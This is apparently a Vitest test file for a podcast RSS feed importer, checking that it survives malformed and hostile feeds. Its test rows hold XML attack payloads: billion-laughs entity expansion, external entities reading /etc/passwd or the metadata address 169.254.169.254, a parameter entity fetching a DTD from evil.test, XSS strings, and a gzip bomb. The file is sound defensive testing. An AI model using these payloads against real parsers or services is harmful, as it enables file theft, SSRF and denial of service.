import { once } from 'node:events'
import { createServer, type RequestListener } from 'node:http'
import { gzipSync } from 'node:zlib'
import { expect, onTestFinished, test } from 'vitest'
import { importItem } from '#src/features/transcript/server/tables.ts'
import { aWorkspace } from '#src/test/factories.ts'
import { createTestPlatform } from '#src/test/test-platform.ts'
import { readFeedAt } from './read-feed-at.ts'

type Episode = { title: string; guid?: string }
type Fate = { lists: Episode[] } | { says: RegExp }
type Row = [what: string, answer: string | Buffer | RequestListener, fate: Fate]

const noFeed: Fate = { says: /is no RSS feed\. Copy the address of the feed/ }
const noText: Fate = { says: /cannot be read as text/ }
const entities: Fate = { says: /declares entities of its own/ }
const nothingToHear: Fate = { says: /has no episode with audio/ }

const declares = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>`
const item = (inner: string, url = 'https://cdn.test/a.mp3') =>
  `<item>${inner}<enclosure url="${url}" length="1" type="audio/mpeg"/></item>`
const feed = (items: string, head = declares('UTF-8')) =>
  `${head}<rss version="2.0"><channel><title>Show</title>${items}</channel></rss>`
const titled = (title: string, head?: string) => feed(item(`<title>${title}</title>`), head)

const laughs = Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY l${n + 1} "${`&l${n || ''};`.repeat(10)}">`,
).join('')
const utf16 = (text: string, mark: number[]) => {
  const bytes = Buffer.from(text, 'utf16le')
  return Buffer.concat([Buffer.from(mark), mark[0] === 0xfe ? bytes.swap16() : bytes])
}
const zurich: Fate = { lists: [{ title: 'Zürich — “nah”' }] }
const west = Buffer.from(titled('Zürich — “nah”', declares('windows-1252')), 'latin1')
for (const [sign, byte] of [
  ['\u2014', 0x97],
  ['\u201c', 0x93],
  ['\u201d', 0x94],
] as const)
  west.set([byte], titled('Zürich — “nah”', declares('windows-1252')).indexOf(sign))

const rows: Row[] = [
  ['a billion laughs', titled('&l9;', `<!DOCTYPE r [<!ENTITY l "lol">${laughs}]>`), entities],
  [
    'one long entity, used often',
    titled('&a;'.repeat(9000), `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(9000)}">]>`),
    entities,
  ],
  [
    'an entity from a file',
    titled('&x;', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    entities,
  ],
  [
    'an entity from inside',
    titled('&x;', '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'),
    entities,
  ],
  [
    'an entity of parameters',
    titled('x', '<!DOCTYPE r [<!entity % p SYSTEM "http://evil.test/x.dtd"> %p;]>'),
    entities,
  ],
  ['entities in UTF-16', utf16(titled('&a;', '<!DOCTYPE r [<!ENTITY a "b">]>'), [0xff, 0xfe]), entities],
  [
    'an outside grammar',
    titled('Plain', '<!DOCTYPE rss SYSTEM "http://evil.test/rss.dtd">'),
    { lists: [{ title: 'Plain' }] },
  ],
  ['an entity that nobody declared', titled('A &nobody; B'), { lists: [{ title: 'A &nobody; B' }] }],
  [
    'a file taken in',
    feed(item('<title>T</title><xi:include href="file:///etc/passwd" parse="text"/>')),
    { lists: [{ title: 'T' }] },
  ],
  [
    'a stylesheet',
    titled('T', `${declares('UTF-8')}<?xml-stylesheet href="javascript:alert(1)"?>`),
    { lists: [{ title: 'T' }] },
  ],

  [
    '200 MB declared',
    (_, response) => void response.writeHead(200, { 'content-length': 2e8 }).write('<rss>'),
    { says: /larger than 20 MB/ },
  ],
  [
    '21 MB without a length',
    (_, response) => void response.end(Buffer.alloc(21_000_000, 'a')),
    { says: /larger than 20 MB/ },
  ],
  [
    'a packed answer that unfolds to 100 MB',
    (_, response) => void response.writeHead(200, { 'content-encoding': 'gzip' }).end(packed),
    { says: /its answer is compressed/ },
  ],
  ['a packed file', gzipSync(titled('T')), noText],
  [
    'an answer that breaks off',
    (_, response) =>
      void response.writeHead(200, { 'content-length': 99 }).write('<rss', () => response.destroy()),
    { says: /broke off|aborted/ },
  ],
  [
    'an error of its server',
    (_, response) => void response.writeHead(500).end('oops'),
    { says: /it answered 500/ },
  ],

  ['Windows-1252, which it declares', west, zurich],
  ['UTF-16 with its mark', utf16(titled('Zürich — “nah”'), [0xff, 0xfe]), zurich],
  ['UTF-16 the other way round', utf16(titled('Zürich — “nah”'), [0xfe, 0xff]), zurich],
  ['UTF-8 with its mark', Buffer.from(`\ufeff${titled('Zürich — “nah”')}`), zurich],
  [
    'UTF-8 that says it is Windows-1252',
    Buffer.from(titled('Zurich', declares('windows-1252'))),
    { lists: [{ title: 'Zurich' }] },
  ],
  [
    'Latin 1 that says it is UTF-8',
    Buffer.from(titled('Zürich'), 'latin1'),
    { lists: [{ title: 'Zürich' }] },
  ],
  [
    'an encoding that there is not',
    Buffer.from(titled('Zürich', declares('klingon'))),
    { lists: [{ title: 'Zürich' }] },
  ],
  [
    'UTF-7, which no browser reads',
    Buffer.from(titled('A +ADw-b+AD4-', declares('UTF-7'))),
    { lists: [{ title: 'A +ADw-b+AD4-' }] },
  ],
  ['NUL among its letters', Buffer.from(titled('A\u0000B')), noText],
  ['UTF-32', Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]), noFeed],
  ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), noText],

  ['nothing', '', noFeed],
  ['spaces', ' \n '.repeat(1000), noFeed],
  ['a text', 'Hello there.', noFeed],
  ['a page', '<!doctype html><html><body>Sign in</body></html>', noFeed],
  ['JSON', '{"version":"https://jsonfeed.org/version/1.1","items":[]}', noFeed],
  [
    'Atom',
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>S</title><entry><title>T</title></entry></feed>',
    noFeed,
  ],
  ['OPML', '<opml version="2.0"><body><outline xmlUrl="https://a.test"/></body></opml>', noFeed],
  ['a beginning without an end', '<rss version="2.0"><channel><item><title>T', noFeed],
  ['CDATA without an end', feed(item('<title><![CDATA[T</title>')), noFeed],
  ['a comment without an end', feed(`<!-- ${item('<title>T</title>')}`), noFeed],
  ['elements in elements without end', feed(`<item>${'<a>'.repeat(20_000)}`), noFeed],
  ['no items', feed(''), nothingToHear],
  ['items without a file', feed('<item><title>A post</title></item>'), nothingToHear],
  [
    'files that are not of the web',
    feed(
      ['file:///etc/passwd', 'javascript:alert(1)', 'data:audio/mpeg,x', 'ftp://a.test/a.mp3', '//', '']
        .map((url) => item('<title>T</title>', url))
        .join(''),
    ),
    nothingToHear,
  ],
  [
    'the same guid twice',
    feed(item('<guid>a</guid><title>First</title>') + item('<guid>a</guid><title>Second</title>')),
    { lists: [{ title: 'First', guid: 'a' }] },
  ],
  [
    'the same file twice without a guid',
    feed(item('<title>One</title>') + item('<title>Two</title>')),
    { lists: [{ title: 'One' }] },
  ],
  [
    'a guid of a megabyte',
    feed(item(`<guid>${'g'.repeat(1_000_000)}</guid><title>T</title>`)),
    { lists: [{ title: 'T', guid: 'g'.repeat(1000) }] },
  ],
  ['an episode that has no title', feed(item('<guid>a</guid>')), { lists: [{ title: 'Untitled' }] }],
  [
    'a title that is markup',
    titled('<![CDATA[<img src=x onerror=alert(1)>Hi]]>'),
    { lists: [{ title: 'Hi' }] },
  ],
  ['a title of half a letter', titled('A&#xD800;B'), { lists: [{ title: 'A\ufffdB' }] }],
]
const packed = gzipSync(Buffer.alloc(100_000_000))

async function readAt(answer: Row[1]) {
  const server = createServer(
    typeof answer === 'function' ? answer : (_, response) => void response.end(answer),
  )
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  const address = server.address()
  if (!address || typeof address === 'string') throw new Error('the server has no port')
  const platform = await createTestPlatform({ importAllowPrivate: true })
  const { workspace, owner: user } = await aWorkspace(platform)
  const from = performance.now()
  const problem = await readFeedAt(platform, { workspace, user }, `http://127.0.0.1:${address.port}/`).then(
    () => undefined,
    (error: unknown) => error,
  )
  const seconds = (performance.now() - from) / 1000
  const items = await platform.db.inWorkspace(workspace, (tx) => tx.select().from(importItem))
  const { rows: feeds } = await platform.db.pool.query('select 1 from feed where workspace = $1', [workspace])
  return { problem, seconds, items, feeds: feeds.length }
}

const listed = rows.flatMap(([what, answer, fate]) => ('lists' in fate ? [{ what, answer, ...fate }] : []))
const refused = rows.flatMap(([what, answer, fate]) => ('says' in fate ? [{ what, answer, ...fate }] : []))

test.each(listed)('a feed with $what lists what it has', async ({ answer, lists }) => {
  const { problem, items, seconds } = await readAt(answer)
  expect(problem).toBeUndefined()
  expect(items).toMatchObject(lists)
  expect(items).toHaveLength(lists.length)
  expect(seconds).toBeLessThan(5)
})

test.each(refused)('a feed with $what is refused in words, and nothing is kept', async ({ answer, says }) => {
  const { problem, items, feeds, seconds } = await readAt(answer)
  expect(problem).toMatchObject({ status: 422, message: expect.stringMatching(says) })
  expect([items, feeds]).toEqual([[], 0])
  expect(seconds).toBeLessThan(5)
})
